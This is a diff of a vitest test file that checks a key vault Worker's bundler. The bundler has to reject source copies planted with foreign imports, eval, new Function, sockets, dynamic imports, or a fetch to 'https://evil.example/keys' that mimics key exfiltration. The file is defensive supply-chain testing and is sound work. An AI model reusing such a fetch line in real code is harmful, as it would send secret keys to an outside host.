@@ -1,49 +1,66 @@
-import { readFileSync } from 'node:fs'
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import path from 'node:path'
-import { build, type Metafile } from 'esbuild'
-import { expect, it } from 'vitest'
+import { afterAll, describe, expect, it } from 'vitest'
+import { bundleVault } from '../../scripts/provision/deployment.ts'
+import { createBundler } from '../../scripts/stack/bundle.ts'
 
-/** What a Worker's bundle is made of, as esbuild read it. `planted`: source that is imported before it. */
-const bundleOf = async (entry: string, planted = ''): Promise<Metafile> => {
-  const { metafile } = await build({
-    stdin: { contents: `${planted}\nexport * from './${entry}'`, resolveDir: process.cwd(), sourcefile: entry },
-    bundle: true,
-    write: false,
-    metafile: true,
-    format: 'esm',
-    platform: 'neutral',
-    mainFields: ['module', 'main'],
-    conditions: ['workerd', 'worker', 'browser'],
-    loader: { '.wasm': 'binary' },
-    external: ['cloudflare:*', 'node:*', '*.bin'],
-    logLevel: 'silent',
-  })
-  return metafile
-}
-
-/** What does not belong beside keys: anything but our own source, and Node's modules. */
-const foreignTo = ({ inputs }: Metafile): string[] => [
-  ...Object.keys(inputs).filter((input) => !/^src\/(vault|core|contracts|domain)\//.test(input)),
-  ...Object.values(inputs).flatMap(({ imports }) =>
-    imports.map((each) => each.path).filter((name) => name.startsWith('node:')),
-  ),
-]
-
-it("no byte of the vault's bundle comes from an npm package", async () => {
-  const bundle = await bundleOf('src/vault/worker.ts')
-  expect(Object.keys(bundle.inputs)).toContain('src/vault/worker.ts')
-  expect(foreignTo(bundle)).toEqual([])
+const copies: string[] = []
+afterAll(() => {
+  for (const copy of copies) rmSync(copy, { recursive: true, force: true })
 })
 
-it.each([
-  ['a package', "import 'hono'", /node_modules\/hono/],
-  ['a file of another Worker', "import './src/edge/log.ts'", /^src\/edge\/log\.ts$/],
-  ['a file from outside', "import './test/scan/forms.ts'", /^test\/scan\/forms\.ts$/],
-  ["Node's own modules", "import 'node:fs'", /^node:fs$/],
-])('would see %s that is planted in it', async (_, planted, name) => {
-  expect(foreignTo(await bundleOf('src/vault/worker.ts', planted))).toSatisfy((found: string[]) =>
-    found.some((each) => name.test(each)),
-  )
+/** A checkout whose vault has this line more; inside the project, where its packages are found. */
+const planted = (line: string): string => {
+  mkdirSync('.lango', { recursive: true })
+  const copy = path.resolve(mkdtempSync(path.join('.lango', 'planted-')))
+  copies.push(copy)
+  cpSync('src', path.join(copy, 'src'), { recursive: true })
+  const worker = path.join(copy, 'src/vault/worker.ts')
+  writeFileSync(worker, `${line}\n${readFileSync(worker, 'utf8')}`)
+  return copy
+}
+
+const hostile = path.resolve('test/workers/hostile/dependency.ts')
+
+describe("the vault's bundle", () => {
+  it('is made of our own source alone, and is what is sealed', async () => {
+    const modules = await bundleVault()
+    expect(modules.map(({ path: name }) => name)).toEqual(expect.arrayContaining(['index.js', 'vault.wasm']))
+    // The copy that the others are planted in would pass as well.
+    expect(await bundleVault(planted('// nothing'))).toHaveLength(modules.length)
+  })
+
+  it.each([
+    ['the hostile module of the edge', `import ${JSON.stringify(hostile)}`, /made of .*hostile\/dependency\.ts/],
+    ['an npm package', "import 'hono'", /made of .*node_modules\/hono/],
+    ['a file of another Worker', "import '../edge/log.ts'", /made of src\/edge\/log\.ts/],
+    ['an adapter', "import '../adapters/sha256.ts'", /made of src\/adapters\/sha256\.ts/],
+    ["Node's own modules", "import 'node:fs'", /imports node:fs/],
+    ['sockets', "import 'cloudflare:sockets'", /imports cloudflare:sockets/],
+    ['eval', "export const it = eval('1')", /makes code of text: eval\(/],
+    ['a function made of text', "export const it = new Function('return 1')", /makes code of text: new Function/],
+    [
+      'a module that is loaded later',
+      "export const it = () => import('cloudflare:workers')",
+      /makes code of text: import\(/,
+    ],
+    [
+      'an address',
+      "export const it = () => fetch('https://evil.example/keys')",
+      /knows the address https:\/\/evil\.example/,
+    ],
+  ])('cannot be sealed with %s in it', async (_, line, names) => {
+    await expect(bundleVault(planted(line))).rejects.toThrow(names)
+  })
+
+  it('begins with the module that takes what it needs of the platform', async () => {
+    const bundler = await createBundler('src/vault/worker.ts', () => {})
+    await bundler.dispose()
+    const [code] = bundler.modules()
+    // The platform's own imports are hoisted; this is where code begins.
+    const [, first] = /^\/\/ (src\/\S+)\n(?!import )/m.exec(String(code?.contents)) ?? []
+    expect(first).toBe('src/core/vault-mailbox.ts')
+  })
 })
 
 it('the bytes that the core hashes are those that run', () => {
